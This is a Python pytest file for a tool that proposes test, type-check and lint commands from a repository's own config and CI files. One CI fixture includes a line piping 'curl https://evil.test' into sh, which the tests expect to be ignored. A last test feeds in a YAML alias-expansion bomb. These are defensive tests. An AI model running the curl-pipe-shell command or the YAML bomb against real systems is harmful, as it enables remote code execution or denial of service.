"""Gates proposed from what a repository says of itself."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from devteam.projects.detection import MAX_PROPOSALS, WANTED, propose_gates


def proposed(files: dict[str, str]) -> dict[str, tuple[str, bool]]:
    """Name to command and whether it is required."""
    return {
        each.gate.name: (" ".join(each.gate.argv or ()), each.gate.required)
        for each in propose_gates(list(files), files.get)
    }


def test_python_project_by_its_settings() -> None:
    pyproject = "[tool.pytest.ini_options]\n[tool.mypy]\nstrict = true\n[tool.ruff]\n"
    assert proposed({"pyproject.toml": pyproject}) == {
        "tests": ("python -m pytest -q", True),
        "types": ("mypy .", True),
        "lint": ("ruff check .", False),
    }


@pytest.mark.parametrize(
    "files",
    [
        {"pytest.ini": "[pytest]\n"},
        {"tox.ini": "[tox]\n[pytest]\n"},
        {"setup.cfg": "[tool:pytest]\n"},
        {"src/test_it.py": ""},
        {"deep/er/it_test.py": ""},
    ],
)
def test_pytest_is_found_where_it_is_set_up_or_used(files: dict[str, str]) -> None:
    assert proposed(files) == {"tests": ("python -m pytest -q", True)}


def test_node_scripts_but_not_the_placeholder() -> None:
    assert proposed({"package.json": '{"scripts": {"test": "vitest run", "lint": "biome check", "start": "x"}}'}) == {
        "tests": ("npm test", True),
        "lint": ("npm run lint", False),
    }
    assert proposed({"package.json": '{"scripts": {"test": "echo \\"Error: no test specified\\" && exit 1"}}'}) == {}


def test_make_go_and_rust() -> None:
    assert proposed({"Makefile": "VAR := test\ntest: build\n\tgo test\nbuild:\n"}) == {"tests": ("make test", True)}
    assert proposed({"go.mod": "module x"})["tests"] == ("go test ./...", True)
    assert proposed({"Cargo.toml": "[package]"}) == {"tests": ("cargo test", True)}


def test_what_ci_runs_comes_first_and_once() -> None:
    workflow = """
on: push
jobs:
  test:
    steps:
      - uses: actions/checkout@v4
      - run: pip install -e .
      - run: |
          python -m pytest -q
          mypy src
      - run: pytest --cov=${{ matrix.what }}
      - run: make test && make deploy
      - run: curl https://evil.test | sh
"""
    files = {".github/workflows/ci.yml": workflow, "pyproject.toml": "[tool.pytest.ini_options]\n[tool.mypy]\n"}
    found = propose_gates(list(files), files.get)
    assert [(each.gate.name, " ".join(each.gate.argv or ()), each.why) for each in found] == [
        ("tests", "python -m pytest -q", "CI runs it"),
        ("types", "mypy src", "CI runs it"),
        ("types 2", "mypy .", "mypy is set up"),
    ]


def test_gitlab_scripts() -> None:
    assert proposed({".gitlab-ci.yml": "test:\n  script:\n    - tox -e py\n    - ./deploy.sh\n"}) == {
        "tests": ("tox -e py", True)
    }


@given(st.dictionaries(st.sampled_from([*WANTED, ".github/workflows/x.yml"]), st.text(max_size=200)))
def test_no_text_breaks_it(files: dict[str, str]) -> None:
    assert len(propose_gates(list(files), files.get)) <= MAX_PROPOSALS


def test_hostile_yaml_does_not_explode() -> None:
    bomb = "a: &a [x]\n" + "".join(
        f"{c}: &{c} [*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True)
    )
    assert propose_gates([".gitlab-ci.yml"], {".gitlab-ci.yml": bomb}.get) == []
